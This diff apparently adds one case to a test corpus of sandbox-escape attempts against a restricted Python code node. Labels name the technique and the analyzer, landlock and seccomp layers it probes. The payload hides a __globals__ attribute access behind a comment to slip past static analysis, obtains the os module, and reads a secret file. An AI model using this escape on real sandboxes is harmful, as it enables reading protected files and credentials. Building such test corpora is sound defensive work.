@@ -1,0 +1,11 @@
+# class: parser differentials
+# technique: a comment between the dot and the name
+# layers: analyzer, landlock, seccomp, identity
+# code: user
+# witness: secret
+# interpreter-gap: yes
+host = _items[0]["json"]
+g = (quit.__init__.  # harmless
+__globals__)
+os = g["sys"].modules["os"]
+return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
